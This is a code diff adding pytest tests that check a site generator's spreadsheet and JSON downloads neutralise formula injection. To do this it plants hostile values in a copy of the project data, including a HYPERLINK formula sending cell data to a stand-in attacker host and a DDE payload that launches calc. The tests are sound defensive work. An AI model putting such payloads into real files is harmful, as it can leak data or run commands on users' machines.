@@ -2,18 +2,21 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
+import shutil
+import zipfile
 
 import pytest
 import yaml
 from openpyxl import load_workbook
 
 from generator.catalogue import DATA_FILES, load_catalogue
-from generator.downloads import HEADERS, cost_xlsx, knowledge_json, knowledge_schema
+from generator.downloads import HEADERS, cost_csv, cost_xlsx, inert, knowledge_json, knowledge_schema, sheet_name
 from generator.pages import hrefer
 
-from .helpers import ROOT
+from .helpers import ROOT, edit
 
 HOURS = ("paedagogisk_personale", "paedagogisk_leder", "vikarer", "samarbejdspartner")
 
@@ -96,3 +99,100 @@ def test_every_project_page_links_to_the_downloads(catalogue):
         markdown = project_page(catalogue, project).markdown
         for target in ("oekonomi/omkostninger.xlsx", "oekonomi/omkostninger.csv", "data/vidensbase.json"):
             assert f'href="../../{target}" download' in markdown, (project.id, target)
+
+
+# --- downloads are data, never code -------------------------------------------------------------
+
+LINK = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")'
+# Where a hostile pull request can put text that reaches the downloads: (file, as the YAML has it, payload).
+PAYLOADS = [
+    ("projects.yaml", 'title: "Styrket deltagende forældresamarbejde"', LINK),
+    ("projects.yaml", 'label: "Overgangssamtaler"', "+SUM(1;2)"),
+    ("projects.yaml", 'staff: ["1 pædagog"]', "@SUM(A1:A9)"),
+    ("projects.yaml", 'partner: ["1 sundhedsplejerske"]', "-2+3+cmd|' /C calc'!A0"),
+    ("projects.yaml", 'cadence: "Ét møde per barn"', "https://evil.example/cadence"),
+    ("projects.yaml", 'establishment_explanation: "Opstarts- og planlægningsmøder"', "\t=1+1"),
+    ("municipalities.yaml", 'name: "Frederikshavn Kommune"', "=1+1"),
+    ("municipalities.yaml", 'short_name: "Frederikshavn"', "@Frederiks/havn"),  # only in a sheet name
+    ("evaluation.yaml", 'figure: "2022-priser"', " =2022"),
+]
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory):
+    """The real data with a formula, a link or a formula trigger in every kind of text field of the downloads."""
+    data = tmp_path_factory.mktemp("hostile") / "data"
+    shutil.copytree(ROOT / "data", data)
+    for name, old, payload in PAYLOADS:
+        key = old.split(":")[0]
+        value = json.dumps([payload] if old.endswith("]") else payload, ensure_ascii=False)
+        edit(data / name, old, f"{key}: {value}")
+    # A cost cell that is not a regular number carries its text as written (with a note).
+    edit(data / "projects.yaml", 'cost_per_child: "1.099 kr."', 'cost_per_child: {as_written: "=2+5", note: "x"}')
+    return load_catalogue(data)
+
+
+def _payload_texts() -> set[str]:
+    """The payloads that land in cells (the short name lands in a sheet name)."""
+    return {payload for _, old, payload in PAYLOADS if not old.startswith("short_name")} | {"=2+5"}
+
+
+def _cells_starting_a_formula(cells) -> list[str]:
+    """Text cells a spreadsheet would read as a formula: they start (after spaces) with = + - @ tab CR or LF."""
+    starts = set("=+-@\t\r\n")
+    return [c for c in cells if isinstance(c, str) and c != "-" and c.lstrip(" ")[:1] in starts]
+
+
+def test_xlsx_from_hostile_data_has_no_formula_and_no_link(hostile):
+    data = cost_xlsx(hostile)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        names = archive.namelist()
+        sheets = [archive.read(n).decode("utf-8") for n in names if n.startswith("xl/worksheets/sheet")]
+    assert not any("<f>" in sheet or "<f " in sheet or "<hyperlink" in sheet for sheet in sheets)
+    assert not any("_rels" in n and "worksheets" in n for n in names)  # a hyperlink needs a sheet relationship
+    book = load_workbook(io.BytesIO(data))
+    texts = []
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f" and cell.hyperlink is None, (sheet.title, cell.coordinate, cell.value)
+                texts.append(cell.value)
+    assert _cells_starting_a_formula(texts) == []
+    for payload in _payload_texts() - {"https://evil.example/cadence"}:
+        assert "'" + payload in texts, payload  # shown as text, with the apostrophe that keeps it text
+    assert "https://evil.example/cadence" in texts  # a plain string, not a link
+    assert "5.2 @Frederiks-havn" in book.sheetnames  # a sheet name from data is made valid
+
+
+def test_csv_from_hostile_data_has_every_formula_neutralised(hostile):
+    rows = list(csv.reader(io.StringIO(cost_csv(hostile).decode("utf-8-sig")), delimiter=";"))
+    cells = [cell for row in rows for cell in row]
+    assert _cells_starting_a_formula(cells) == []
+    for payload in _payload_texts() - {"https://evil.example/cadence"}:
+        assert "'" + payload in cells, payload
+    assert "-" in cells  # the report's dash stays a dash
+    assert all(len(row) == len(HEADERS) for row in rows)
+
+
+def test_inert_prefixes_exactly_the_formula_starts():
+    for text in ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "\nx", "  =1", "\uff1d1+1"]:
+        assert inert(text) == "'" + text, repr(text)
+    for value in ["-", "1.099", "Ét møde", "a=b", "", "'=1", 12.5, -3, None]:
+        assert inert(value) == value, repr(value)
+
+
+def test_sheet_names_from_data_are_valid_and_unique():
+    used: set[str] = set()
+    assert sheet_name("5.2 A/B [x]:*?\\", used) == "5.2 A-B -x-----"
+    assert sheet_name("'quoted'", used) == "quoted"
+    assert sheet_name("5.2 a/b [X]:*?\\", used) == "5.2 a-b -X----- (2)"
+    long = "5.10 " + "x" * 40
+    assert sheet_name(long, used) == long[:31]
+    assert sheet_name(long, used) == long[:27] + " (2)"
+    assert all(len(name) <= 31 for name in used)
+
+
+def test_json_download_is_data_only(hostile):
+    """The JSON holds the hostile text as JSON strings; nothing in it runs."""
+    data = json.loads(knowledge_json(hostile))
+    assert data["projects"]["projects"][0]["title"] == LINK
